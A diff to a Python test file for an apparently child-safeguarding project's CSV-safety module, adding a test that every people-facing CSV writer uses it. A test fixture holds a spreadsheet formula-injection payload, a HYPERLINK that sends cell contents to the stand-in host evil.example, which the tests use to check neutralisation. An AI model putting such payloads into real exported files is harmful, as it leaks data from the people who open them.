@@ -4,10 +4,12 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from pathlib import Path
 
 import pytest
 
+import childfirst
 from childfirst.reports.csvsafe import csv_text, safe_cell, write_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"Open the full record")'
@@ -58,3 +60,18 @@ def test_a_file_written_for_a_spreadsheet_runs_no_cell(tmp_path: Path) -> None:
         "Found at 12 Mill Lane",
     ]
     assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in read for cell in r)
+
+
+# The synthetic area's truth files are written for the scorer to read back, from generated values
+# only; every other CSV is for people, and must be written by csvsafe.
+NOT_FOR_PEOPLE = {"synth/writer.py"}
+
+
+def test_every_csv_written_for_people_goes_through_csvsafe() -> None:
+    package = Path(childfirst.__file__).parent
+    writers = {
+        str(path.relative_to(package))
+        for path in package.rglob("*.py")
+        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
+    }
+    assert writers - NOT_FOR_PEOPLE == {"reports/csvsafe.py"}
